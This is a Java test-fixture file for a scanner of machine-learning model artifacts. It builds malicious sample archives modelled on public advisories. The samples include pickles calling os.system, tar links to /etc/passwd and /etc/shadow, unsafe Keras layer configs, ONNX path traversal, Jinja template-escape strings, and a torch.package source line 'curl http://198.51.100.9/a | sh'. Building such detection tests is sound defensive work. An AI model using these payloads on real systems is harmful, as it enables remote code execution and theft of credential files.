package dev.bartizan.artifacts;

import static dev.bartizan.artifacts.ModelFormatsScanTest.joined;
import static dev.bartizan.artifacts.ModelFormatsScanTest.utf8;
import static dev.bartizan.artifacts.PickleParts.built;
import static dev.bartizan.artifacts.PickleParts.dict;
import static dev.bartizan.artifacts.PickleParts.made;
import static dev.bartizan.artifacts.PickleParts.name;
import static dev.bartizan.artifacts.PickleParts.number;
import static dev.bartizan.artifacts.PickleParts.pickle;
import static dev.bartizan.artifacts.PickleParts.text;

import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/// Tricks with archives, Keras and other formats that public advisories and reports about other
/// scanners tell of. None of their samples is used; each is made here.
final class AdvisoryFormatTrials {
    private static final byte[] PAYLOAD = Pickles.calling("os", "system");

    private final List<Trial> all = new ArrayList<>();

    static List<Trial> all() {
        AdvisoryFormatTrials trials = new AdvisoryFormatTrials();
        trials.archives();
        trials.packages();
        trials.keras();
        trials.others();
        return trials.all;
    }

    private void archives() {
        byte[] empty = pickle(dict());
        all.add(
                Trial.malicious(
                        "advisory/torch-many-records",
                        "m.pt",
                        Scans.zip(
                                ordered(
                                        "archive/data.pkl",
                                        empty,
                                        "archive/version",
                                        utf8("3\n"),
                                        "archive/constants.pkl",
                                        PAYLOAD))));
        all.add(
                Trial.malicious(
                        "advisory/torch-extra-file",
                        "m.pt",
                        Scans.zip(
                                ordered(
                                        "archive/data.pkl",
                                        empty,
                                        "archive/extra/info",
                                        PAYLOAD))));
        all.add(
                Trial.malicious(
                        "advisory/weights-npz-is-a-pickle",
                        "m.keras",
                        Scans.zip(
                                ordered(
                                        "config.json",
                                                utf8(
                                                        "{\"class_name\":\"Sequential\",\"config\":{\"layers\":[]}}"),
                                        "metadata.json", utf8("{\"keras_version\":\"3.8.0\"}"),
                                        "model.weights.npz", PAYLOAD))));
        all.add(
                Trial.malicious(
                        "advisory/gz-without-ending-in-tar",
                        "m.nemo",
                        FormatScanTest.tar("weights", '0', "", gzip(PAYLOAD))));
        all.add(
                Trial.malicious(
                        "advisory/protocol-0-as-text-in-zip",
                        "m.zip",
                        Scans.zip(ordered("readme.txt", utf8("cposix\nsystem\n(S'id'\ntR.")))));
        all.add(
                Trial.malicious(
                        "advisory/three-deep",
                        "m.zip",
                        Scans.zip(
                                ordered(
                                        "a.zip",
                                        Scans.zip(
                                                ordered(
                                                        "b.tar",
                                                        FormatScanTest.tar(
                                                                "c", '0', "", gzip(PAYLOAD))))))));
        all.add(
                Trial.bad(
                        "advisory/tar-symlink-out",
                        "m.tar",
                        FormatScanTest.tar(
                                "weights.bin", '2', "../../../../etc/passwd", new byte[0])));
        all.add(
                Trial.bad(
                        "advisory/tar-hardlink-out",
                        "m.tar",
                        FormatScanTest.tar("weights.bin", '1', "/etc/shadow", new byte[0])));
        all.add(
                Trial.malicious(
                        "advisory/npz-member-without-npy",
                        "m.npz",
                        Scans.zip(ordered("arr_0", PAYLOAD))));
        all.add(
                Trial.malicious(
                        "advisory/oci-config-holds-pickle",
                        "m.mar",
                        Scans.zip(
                                ordered(
                                        "MAR-INF/MANIFEST.json",
                                        utf8(
                                                "{\"model\":{\"modelName\":\"m\",\"handler\":\"image_classifier\",\"serializedFile\":\"w\"}}"),
                                        "w",
                                        PAYLOAD))));
    }

    private static byte[] gzip(byte[] content) {
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        try (var gzip = new java.util.zip.GZIPOutputStream(out)) {
            gzip.write(content);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static Map<String, byte[]> ordered(Object... namesAndBytes) {
        Map<String, byte[]> members = new LinkedHashMap<>();
        for (int i = 0; i < namesAndBytes.length; i += 2) {
            members.put((String) namesAndBytes[i], (byte[]) namesAndBytes[i + 1]);
        }
        return members;
    }

    /// `torch.package`: sources in the archive run when its pickle imports them.
    private void packages() {
        byte[] named = pickle(built(made("net:Net"), dict(text("a"), number(1))));
        all.add(
                Trial.malicious(
                        "package/source-runs",
                        "m.pt",
                        Scans.zip(
                                ordered(
                                        "p/.data/version",
                                        utf8("6\n"),
                                        "p/.data/extern_modules",
                                        utf8("torch\n"),
                                        "p/net.py",
                                        utf8(
                                                "import os\nos.system('curl http://198.51.100.9/a | sh')\nclass Net: pass\n"),
                                        "p/model/model.pkl",
                                        named))));
        all.add(
                Trial.bad(
                        "package/source-runs-a-program",
                        "m.pt",
                        Scans.zip(
                                ordered(
                                        "p/.data/version",
                                        utf8("6\n"),
                                        "p/.data/extern_modules",
                                        utf8("torch\n"),
                                        "p/net/__init__.py",
                                        utf8(
                                                "import subprocess\nsubprocess.run(['./x.bin'])\nclass Net: pass\n"),
                                        "p/model/model.pkl",
                                        named))));
        all.add(
                Trial.benign(
                        "package/extern-os",
                        "m.pt",
                        Scans.zip(
                                ordered(
                                        "p/.data/version",
                                        utf8("6\n"),
                                        "p/.data/extern_modules",
                                        utf8("os\nsubprocess\n"),
                                        "p/net.py",
                                        utf8("class Net: pass\n"),
                                        "p/model/model.pkl",
                                        named))));
        all.add(
                Trial.bad(
                        "package/loader-is-imported",
                        "m.pt",
                        Scans.zip(
                                ordered(
                                        "p/.data/version",
                                        utf8("6\n"),
                                        "p/.data/extern_modules",
                                        utf8("torch\n"),
                                        "p/net.py",
                                        utf8(
                                                "import ctypes\nctypes.CDLL('./x.so')\nclass Net: pass\n"),
                                        "p/model/model.pkl",
                                        named))));
        all.add(
                Trial.benign(
                        "package/honest",
                        "m.pt",
                        Scans.zip(
                                ordered(
                                        "p/.data/version", utf8("6\n"),
                                        "p/.data/extern_modules",
                                                utf8("torch\ntorch.nn\ncollections\n"),
                                        "p/net.py",
                                                utf8(
                                                        "import torch\nclass Net(torch.nn.Module):\n    def forward(self, x):\n        return x\n"),
                                        "p/model/model.pkl", named))));
    }

    /// Keras (CVE-2025-8747, -9905, -9906, -12058, -12060).
    private void keras() {
        keras(
                "lambda-loads-model",
                "{\"module\":\"keras.layers\",\"class_name\":\"Lambda\",\"config\":{\"name\":\"u\",\"function\":{\"module\":\"keras.models\",\"class_name\":\"function\",\"config\":\"load_model\",\"registered_name\":\"function\"},\"arguments\":{\"safe_mode\":false}},\"inbound_nodes\":[{\"args\":[],\"kwargs\":{\"inputs\":\"/tmp/m.keras\"}}]}");
        keras(
                "get-file",
                "{\"module\":\"keras.layers\",\"class_name\":\"Lambda\",\"config\":{\"name\":\"u\",\"function\":{\"module\":\"keras.utils\",\"class_name\":\"function\",\"config\":\"get_file\",\"registered_name\":\"get_file\"},\"arguments\":{\"origin\":\"http://n.example/a\",\"extract\":true}}}");
        keras(
                "unsafe-flag",
                "{\"module\":\"keras.config\",\"class_name\":\"function\",\"config\":\"enable_unsafe_deserialization\",\"registered_name\":\"function\"}");
        keras(
                "lookup-file",
                "{\"module\":\"keras.layers\",\"class_name\":\"StringLookup\",\"config\":{\"name\":\"s\",\"vocabulary\":\"/etc/passwd\"},\"registered_name\":null}");
        keras(
                "lookup-address",
                "{\"module\":\"keras.layers\",\"class_name\":\"TextVectorization\",\"config\":{\"name\":\"s\",\"vocabulary\":\"http://n.example/v.txt\"},\"registered_name\":null}");
        keras(
                "tfsm-layer",
                "{\"module\":\"keras.layers\",\"class_name\":\"TFSMLayer\",\"config\":{\"name\":\"t\",\"filepath\":\"//n.example/share/m\",\"call_endpoint\":\"serve\"},\"registered_name\":null}");
        keras(
                "torch-wrapper",
                "{\"module\":\"keras.layers\",\"class_name\":\"TorchModuleWrapper\",\"config\":{\"name\":\"t\",\"module\":\""
                        + Base64.getEncoder().encodeToString(PAYLOAD)
                        + "\"},\"registered_name\":null}");
        keras(
                "numpy-load-gadget",
                "{\"module\":\"numpy\",\"class_name\":\"load\",\"config\":{\"file\":\"a.npy\",\"allow_pickle\":true},\"registered_name\":\"load\"}");
    }

    private void keras(String name, String layer) {
        String config =
                "{\"module\":\"keras\",\"class_name\":\"Functional\",\"config\":{\"name\":\"m\",\"layers\":["
                        + layer
                        + "]},\"registered_name\":null}";
        all.add(
                Trial.bad(
                        "keras/" + name,
                        "m.keras",
                        Scans.zip(
                                ordered(
                                        "metadata.json", utf8("{\"keras_version\":\"3.8.0\"}"),
                                        "config.json", utf8(config),
                                        "model.weights.h5",
                                                TensorTrials.hdf5(TensorTrials.floats(1, 4))))));
    }

    private void others() {
        all.add(
                Trial.bad(
                        "onnx/location-twice-up",
                        "m.onnx",
                        FormatScanTest.onnx("sub/../../secret.bin", "")));
        all.add(
                Trial.bad(
                        "onnx/location-is-device", "m.onnx", FormatScanTest.onnx("/dev/zero", "")));
        all.add(
                Trial.bad(
                        "onnx/location-is-address",
                        "m.onnx",
                        FormatScanTest.onnx("\\\\n.example\\share\\w", "")));
        all.add(
                Trial.bad(
                        "gguf/template-escapes",
                        "m.gguf",
                        FormatScanTest.gguf(
                                "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}")));
        all.add(
                Trial.bad(
                        "gguf/template-by-namespace",
                        "m.gguf",
                        FormatScanTest.gguf(
                                "{% set n = namespace() %}{{ n.__init__['__glo' ~ 'bals__'] }}")));
        all.add(
                Trial.bad(
                        "safetensors/pickle-after-data",
                        "m.safetensors",
                        joined(TensorTrials.safetensors(TensorTrials.floats(1, 8)), PAYLOAD)));
        all.add(
                Trial.bad(
                        "numpy/object-dtype-in-field",
                        "m.npy",
                        FormatScanTest.npy("[('a', '<f4'), ('b', '|O')]", "(1,)", PAYLOAD)));
        all.add(
                Trial.notClean(
                        "safetensors/cut",
                        "m.safetensors",
                        java.util.Arrays.copyOf(
                                TensorTrials.safetensors(TensorTrials.floats(1, 400)), 300)));
        all.add(
                Trial.notClean(
                        "gguf/cut",
                        "m.gguf",
                        java.util.Arrays.copyOf(FormatScanTest.gguf("{{ x }}"), 40)));
        all.add(
                Trial.notClean(
                        "parquet/rows-unread",
                        "train.parquet",
                        joined(
                                utf8("PAR1"),
                                new byte[64],
                                new byte[] {0x15, 0x04, 0x00},
                                new byte[] {3, 0, 0, 0},
                                utf8("PAR1"))));
        all.add(Trial.notClean("parquet/cut", "train.parquet", joined(utf8("PAR1"), new byte[64])));
    }
}
